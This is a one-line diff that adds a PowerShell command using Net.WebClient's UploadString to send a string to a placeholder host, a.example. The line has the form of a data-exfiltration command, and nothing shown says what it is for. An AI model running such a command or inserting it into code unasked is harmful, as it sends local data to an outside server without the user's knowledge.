@@ -1,0 +1,1 @@
+(New-Object Net.WebClient).UploadString('http://a.example/up','data')
